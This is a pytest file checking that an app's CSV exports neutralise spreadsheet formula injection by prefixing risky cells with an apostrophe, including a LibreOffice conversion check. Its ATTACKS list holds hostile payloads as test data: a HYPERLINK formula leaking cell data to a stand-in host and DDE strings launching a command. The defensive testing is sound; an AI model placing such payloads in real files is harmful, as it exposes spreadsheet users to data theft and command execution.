"""CSV exports are formula-safe: text a spreadsheet would run is kept text (a leading apostrophe),
numbers and number-looking text are untouched; LibreOffice opens the file without a single formula."""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sla_core.exports import csv_bytes, neutralise

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",  # unquoted, a bare CR starts a new row in a spreadsheet: the rest would be a formula
    "  =1+1",
]


def test_formula_like_text_gets_an_apostrophe():
    frame = pd.DataFrame({"team": ATTACKS})
    assert list(neutralise(frame)["team"]) == ["'" + a for a in ATTACKS]


def test_numbers_plain_text_and_blanks_are_left_alone():
    frame = pd.DataFrame(
        {
            "text": ["-5", "+1.5e3", " 42 ", "a=b", "网络组", "", None, "-", "+86 138 0000 0000"],
            "number": [-1.0, 2.0, -3.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0],
        }
    )
    out = neutralise(frame)
    text = list(out["text"])
    assert pd.isna(text.pop(6))  # a blank stays blank
    assert text == ["-5", "+1.5e3", " 42 ", "a=b", "网络组", "", "'-", "'+86 138 0000 0000"]
    assert out["number"].tolist() == frame["number"].tolist() and out["number"].dtype == float
    assert frame["text"].iloc[7] == "-"  # the caller's frame is not changed


def test_headers_and_categories_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": pd.Categorical(["=2+2", "ok"]), "n": pd.array([1, None], dtype="Int64")})
    out = neutralise(frame)
    assert list(out.columns) == ["'=1+1", "n"] and list(out["'=1+1"]) == ["'=2+2", "ok"]
    text = csv_bytes(frame).decode("utf-8-sig")
    assert text.splitlines() == ["'=1+1,n", "'=2+2,1", "ok,"]


LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")


@pytest.mark.slow
@pytest.mark.skipif(LIBREOFFICE is None, reason="libreoffice is not on PATH (make system-deps installs it)")
def test_libreoffice_opens_the_csv_without_a_formula(tmp_path):
    frame = pd.DataFrame({"ticket_id": ATTACKS, "team": ["=1+1"] * len(ATTACKS), "n": range(len(ATTACKS))})
    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
    raw.write_bytes(frame.to_csv(index=False).encode("utf-8"))
    safe.write_bytes(csv_bytes(frame, "utf-8"))
    profile = (tmp_path / "lo-profile").as_uri()
    done = subprocess.run(
        [
            LIBREOFFICE,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(raw),
            str(safe),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr

    def formulas(name: str) -> list[str]:
        book = openpyxl.load_workbook(io.BytesIO((tmp_path / name).read_bytes()))
        return [c.value for row in book.active.iter_rows() for c in row if c.data_type == "f"]

    assert formulas("raw.xlsx")  # the check can fail: unprotected text does become formulas
    assert formulas("safe.xlsx") == []


def test_every_csv_the_app_or_cli_writes_goes_through_exports():
    """A new download or CLI file written with a bare `to_csv` would bypass the neutralising."""
    root = Path(__file__).resolve().parents[2]
    sources = [
        *root.glob("sla_core/**/*.py"),
        *root.glob("ui/*.py"),
        *root.glob("pages/*.py"),
        root / "app.py",
    ]
    # the demo's own generated files and the exports module itself are the only writers allowed
    allowed = {root / "sla_core" / "exports.py", root / "sla_core" / "demo" / "helpdesk_files.py"}
    bare = [
        str(p.relative_to(root)) for p in sources if p not in allowed and ".to_csv(" in p.read_text("utf-8")
    ]
    assert bare == []
